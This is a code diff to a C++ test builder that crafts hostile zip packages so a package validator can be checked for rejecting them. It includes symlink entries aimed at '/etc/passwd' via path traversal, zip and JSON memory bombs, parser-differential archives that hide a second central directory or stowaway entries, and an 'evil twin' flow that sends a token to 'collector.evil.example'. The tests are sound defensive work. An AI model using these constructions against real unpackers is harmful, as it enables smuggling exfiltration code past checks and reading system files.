@@ -163,6 +163,7 @@ class Builder {
     EntryTypes();
     Bombs();
     Damaged();
+    Ambiguous();
     Encryption();
     Methods();
     Degenerate();
@@ -402,6 +403,29 @@ class Builder {
     link.external = 0120777u << 16;
     Package("entry-type/symlink-replacing-flow-file", Replacing(link.name, link),
             "is not a regular file (mode 0120777)");
+    // A symlink mode behind another "made by" host: unzip reads the mode
+    // for BeOS, Atari and others as it does for Unix.
+    for (auto [slug, host] : {std::pair{"beos", 16}, std::pair{"atari", 5}, std::pair{"os-x", 19},
+                              std::pair{"fat", 0}}) {
+      ZipEntry e;
+      e.name = name;
+      e.data = "../../../../../../etc/passwd";
+      e.made_by = static_cast<std::uint16_t>(host << 8 | 20);
+      e.external = 0120777u << 16;
+      Package(std::string("entry-type/symlink-made-by-") + slug, WithEntry(e), "is not a regular file (mode 0120777)");
+    }
+    ZipEntry amiga;
+    amiga.name = name;
+    amiga.made_by = 1 << 8 | 20;
+    amiga.external = 0120777u << 16;
+    Package("entry-type/attributes-of-amiga", WithEntry(amiga), "was made on host system 1, whose file attributes");
+    amiga.made_by = 99 << 8 | 20;
+    Package("entry-type/attributes-of-unknown-host", WithEntry(amiga), "was made on host system 99, whose file attributes");
+    ZipEntry reparse;
+    reparse.name = name;
+    reparse.made_by = 10 << 8 | 20;
+    reparse.external = 0x420;
+    Package("entry-type/windows-reparse-point", WithEntry(reparse), "is a symbolic link or another reparse point");
     ZipEntry dos_dir;
     dos_dir.name = name;
     dos_dir.made_by = 20;  // MS-DOS
@@ -423,11 +447,10 @@ class Builder {
             "entry decompresses to 209715200 bytes, more than 67108864 (the limit)");
     ZipEntry lying = honest;
     lying.size = 1000;
-    Package("bomb/ratio-200mb-declared-small", Replacing(name, lying), "compression ratio above 200 (the limit)");
+    Package("bomb/ratio-200mb-declared-small", Replacing(name, lying), "declares 1000 bytes but holds more");
     ZipEntry lying_zero = honest;
     lying_zero.size = 0;
-    Package("bomb/ratio-200mb-declared-empty", Replacing(name, lying_zero),
-            "compression ratio above 200 (the limit)");
+    Package("bomb/ratio-200mb-declared-empty", Replacing(name, lying_zero), "declares 0 bytes but holds more");
     ZipEntry medium;
     medium.name = name;
     medium.raw = DeflateZeros(30u << 20);
@@ -435,6 +458,22 @@ class Builder {
     medium.crc = Crc32Zeros(30u << 20);
     Package("bomb/ratio-30mb-under-entry-limit", Replacing(name, medium),
             "compression ratio above 200 (the limit)");
+
+    // 30 MiB of JSON that costs about 19 bytes of memory per byte parsed:
+    // within every size limit, beyond the memory of reading a package.
+    std::string costly = R"({"edges":[],"mode":"sync","nodes":[{"id":"start","type":"start"},)"
+                         R"({"config":{"data":[)";
+    std::uint32_t seed = 1;
+    static const char* kTokens[] = {"{}", "[]", "\"\"", "0", "[0]", "{\"a\":0}"};
+    while (costly.size() < (30u << 20)) {
+      seed = seed * 1103515245u + 12345u;
+      costly += kTokens[(seed >> 16) % 6];
+      costly += ',';
+    }
+    costly += R"(0]},"id":"x","type":"transform"}]})";
+    Package("bomb/json-costly-to-parse", Changed(kNightly, "flow_definition.json", costly),
+            "needs more than 268435456 bytes of memory to read (the limit)")
+        .where = kNightly + "/flow_definition.json: ";
 
     ZipEntry huge;
     huge.name = name;
@@ -517,7 +556,8 @@ class Builder {
     const ZipRecord& flow = records.at(3);
     std::string flipped = z;
     flipped[flow.data + flow.comp_size / 2] ^= 0x55;
-    Package("damaged/flipped-data-byte", flipped, "crc mismatch: the entry is damaged");
+    // Here the damaged stream inflates to more than the entry declares.
+    Package("damaged/flipped-data-byte", flipped, "bytes but holds more");
     flipped = z;
     flipped[flow.central + 46 + 2] ^= 0x20;  // a letter of the name, central directory
     Package("damaged/flipped-central-name", flipped, "not a valid zip archive");
@@ -552,6 +592,85 @@ class Builder {
     flipped = z;
     Put16At(flipped, end + 20, 100);
     Package("damaged/comment-length-wrong", flipped, "not a valid zip archive");
+  }
+
+  // The good package, with nightly-report sending a token to an outside
+  // endpoint: what a second reading of an ambiguous package would hold.
+  Entries EvilTwin() {
+    Entries entries = good_;
+    std::string& text = At(entries, kNightly + "/flow_definition.json");
+    Json def = Json::parse(text);
+    def["nodes"][1]["config"]["url"] = "https://collector.evil.example/in";
+    def["nodes"][1]["config"]["headers"] = {{"Authorization", "Bearer ghp_" + std::string("aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5")}};
+    text = CanonicalJson(def);
+    return Reseal(entries);
+  }
+
+  // Packages whose bytes other zip readers read otherwise than libzip.
+  void Ambiguous() {
+    const std::string two_ways = "(it can be read two ways)";
+    std::vector<ZipEntry> clean = ToZipEntries(good_);
+    const std::vector<ZipEntry> evil = ToZipEntries(EvilTwin());
+    // libzip picks, among end records reaching the end of the file, the one
+    // whose entries span the most bytes: padding (an unknown extra field)
+    // makes that the clean one.
+    clean[0].extra = std::string("\xfe\xca\x00\x02", 4) + std::string(512, 'p');
+    // The comment hides a second central directory and end record: unzip
+    // and Python read the evil one, libzip the clean one.
+    Package("ambiguous/comment-hides-central-directory", TwoDirectoryZip(evil, clean),
+            "two end of central directory records end the file " + two_ways);
+    // The same, the hidden end record not lining up: libzip ignores it,
+    // Python takes it (the last signature in the file).
+    Package("ambiguous/comment-hides-misaligned-central-directory", TwoDirectoryZip(evil, clean, 1),
+            "the archive comment holds a zip record signature " + two_ways);
+    // A comment that merely holds a signature.
+    ZipLayout comment;
+    comment.comment = "see PK\x05\x06 inside";
+    Package("ambiguous/comment-holds-signature", BuildZip(clean, comment),
+            "the archive comment holds a zip record signature " + two_ways);
+    // Entries only a reader walking local headers finds (funzip, streaming
+    // unzippers): before the first entry, between two, before the directory.
+    Entries twin = EvilTwin();
+    ZipEntry stowaway;
+    stowaway.name = kNightly + "/flow_definition.json";
+    stowaway.data = At(twin, stowaway.name);
+    const auto records = ListZip(good_zip_);
+    Package("ambiguous/entry-before-the-first", WithHiddenEntry(good_zip_, stowaway, 0),
+            "bytes before the first entry that no entry accounts for");
+    Package("ambiguous/entry-between-entries", WithHiddenEntry(good_zip_, stowaway, records.at(2).local),
+            "bytes between entries that no entry accounts for");
+    const std::size_t end = EndRecord(good_zip_);
+    const std::size_t directory = static_cast<unsigned char>(good_zip_[end + 16]) |
+                                  static_cast<unsigned char>(good_zip_[end + 17]) << 8 |
+                                  static_cast<unsigned char>(good_zip_[end + 18]) << 16 |
+                                  static_cast<std::size_t>(static_cast<unsigned char>(good_zip_[end + 19])) << 24;
+    Package("ambiguous/entry-before-the-directory", WithHiddenEntry(good_zip_, stowaway, directory),
+            "bytes before the central directory that no entry accounts for");
+    // A local header whose flags differ from its central entry's.
+    std::string flags = good_zip_;
+    Put16At(flags, records.at(3).local + kLocalFlags, 0x0808);
+    Package("ambiguous/local-flags-differ", flags, "has other flags than its central entry");
+    // A data descriptor that does not repeat the central CRC.
+    std::vector<ZipEntry> described = clean;
+    for (auto& e : described) {
+      if (e.name != kNightly + "/app_definition.json") continue;
+      e.flags = 0x0808;
+      std::string d;
+      for (std::uint32_t v : {0x08074b50u, 0x12345678u, static_cast<std::uint32_t>(Deflate(e.data).size()),
+                              static_cast<std::uint32_t>(e.data.size())}) {
+        for (int i = 0; i < 4; ++i) d += static_cast<char>((v >> (8 * i)) & 0xff);
+      }
+      e.descriptor = d;
+    }
+    Package("ambiguous/data-descriptor-differs", BuildZip(described),
+            "does not repeat its central entry");
+    // A Zip64 end record and a classic one naming different directories.
+    ZipLayout zip64;
+    zip64.zip64_end = true;
+    std::string disagree = BuildZip(clean, zip64);
+    const std::size_t classic = EndRecord(disagree);
+    Put32At(disagree, classic + 12, 46);  // the classic directory size: one entry's worth
+    Package("ambiguous/zip64-end-disagrees", disagree, "the Zip64 end record and the end record disagree " + two_ways);
   }
 
   void Encryption() {
